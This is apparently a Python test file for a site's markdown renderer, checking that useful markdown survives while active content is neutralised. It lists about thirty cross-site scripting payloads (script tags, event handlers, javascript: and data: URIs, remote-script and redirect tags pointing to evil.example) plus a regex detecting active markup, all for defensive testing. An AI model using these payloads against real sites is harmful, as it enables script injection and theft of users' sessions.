"""The one markdown renderer: useful markdown survives, nothing active does."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from community.markdown import render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;top:0'>overlay</p>",
    "<form action='https://evil.example'><input name=p></form>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "<!-- comment --><script>x</script>",
]

ACTIVE = re.compile(
    r"<(script|iframe|object|embed|svg|math|style|form|input|meta|base|link|details|div)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|style\s*=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_comes_out_inert(payload):
    html = str(render_markdown(payload))
    assert not ACTIVE.search(_without_text(html)), html
    assert 'evil.example/track.png"' not in html or "<img" not in html


def _without_text(html: str) -> str:
    """Only the markup: what escaped text says cannot run."""
    return re.sub(r">[^<]*<", "><", html)


def test_common_markdown_survives():
    html = str(
        render_markdown(
            "# Title\n\nSome **bold**, *em* and `code`.\n\n- one\n- two\n\n"
            "> quoted\n\n[a link](https://gov.example/page)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        )
    )
    for fragment in (
        "<h2>Title</h2>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<code>code</code>",
        "<li>one</li>",
        "<blockquote>",
        "<table>",
        "<td>1</td>",
    ):
        assert fragment in html


def test_links_are_marked_nofollow_ugc_noopener():
    html = str(render_markdown("[x](https://gov.example)"))
    assert 'rel="nofollow ugc noopener"' in html


def test_images_only_from_this_site():
    assert '<img src="/static/img/logo.svg"' in str(render_markdown("![logo](/static/img/logo.svg)"))
    outside = str(render_markdown("![chart](https://elsewhere.example/chart.png)"))
    assert "<img" not in outside and ">chart</a>" in outside


def test_raw_html_is_shown_as_text_not_markup():
    assert "&lt;b&gt;" in str(render_markdown("<b>hi</b>"))


def test_empty_source_renders_nothing():
    assert render_markdown("") == "" and render_markdown(None) == ""


@given(st.text(alphabet=st.sampled_from(list("<>\"'=:/()[]!&#;`* \n\tjavascriptonerrorimgsrc")), max_size=80))
def test_no_generated_input_yields_active_markup(source):
    assert not ACTIVE.search(_without_text(str(render_markdown(source))))


def test_a_section_written_with_two_hashes_is_an_h2_so_no_heading_level_is_skipped():
    """After the page's h1, "## Lessons" made an h3: a skipped level for screen-reader users."""
    html = str(render_markdown("## Lessons\n\n### Start small\n\n#### Detail"))
    assert "<h2>Lessons</h2>" in html and "<h3>Start small</h3>" in html and "<h4>Detail</h4>" in html
